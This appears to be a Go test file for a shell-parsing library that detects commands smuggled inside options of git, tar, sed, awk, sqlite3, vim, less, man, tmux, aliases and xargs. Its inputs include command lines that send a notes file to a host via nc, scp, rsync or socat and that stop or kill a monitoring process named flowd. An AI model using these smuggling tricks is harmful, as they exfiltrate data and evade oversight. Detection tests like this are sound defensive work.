package shellnorm

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// The commands a program runs from text given to it are read as
// commands of the line (Given, Inner), so that every reader of the line
// (classify, cmdrisk, selfguard) sees them.
func TestGivenCommandsAreRead(t *testing.T) {
	for line, want := range map[string]string{
		`git -c core.fsmonitor='nc host 80 < notes' status`:                      "nc",
		`git -c alias.up='!scp notes host:' up`:                                  "scp",
		`GIT_PAGER='wget -q http://host/' git log`:                               "wget",
		`tar -cf x.tar notes --checkpoint=1 --checkpoint-action=exec='ssh host'`: "ssh",
		`tar -xf x.tar --to-command='socat - TCP:host:80'`:                       "socat",
		`sed -n '1e telnet host' notes`:                                          "telnet",
		`awk 'BEGIN { c = "ftp host"; print "x" | c }'`:                          "ftp",
		`sqlite3 :memory: '.shell rsync notes host:'`:                            "rsync",
		`vim -c ':!flowd stop' -c ':q'`:                                          "flowd",
		`less '+!pkill flowd' notes`:                                             "pkill",
		`man -P 'flowd stop #' ls`:                                               "flowd",
		`tmux new -d 'lftp host'`:                                                "lftp",
		`screen -dmS s mosh host`:                                                "mosh",
		"shopt -s expand_aliases\nalias ls='xh host'\nls":                        "xh",
	} {
		l := Parse(line)
		var got []string
		for _, c := range l.Commands {
			if c.Given {
				assert.True(t, c.Inner, line)
				got = append(got, c.Name())
			}
		}
		assert.Contains(t, got, want, line)
	}
	for _, line := range []string{
		`git -c user.name=me commit -m 'use nc to test'`,
		`tar -czf out.tgz src`,
		`sed -n '1,5p' notes`,
		`sed 's/e x/y/' notes`,
		`awk '{ print $1 }' log`,
		`man curl`,
		`vim notes`,
	} {
		for _, c := range Parse(line).Commands {
			assert.False(t, c.Given, "%s: %v", line, c.Words)
		}
	}
}

// Builtins that assign a variable, and xargs feeding a shell its script,
// name the command that runs as plainly as an assignment does.
func TestAssignedByBuiltinsAndXargsScripts(t *testing.T) {
	for _, line := range []string{
		`printf -v c flowd; $c stop`,
		`printf -v c '%s' flowd; $c stop`,
		`read -r c <<< flowd; $c stop`,
		`xargs -0 <<< 'flowd stop' sh -c`,
		`echo 'flowd stop' | xargs -0 bash -c`,
		"shopt -s expand_aliases\nalias ll='flowd'\nll stop",
	} {
		var names []string
		for _, c := range Parse(line).Commands {
			names = append(names, c.Name())
		}
		assert.Contains(t, names, "flowd", line)
	}
}
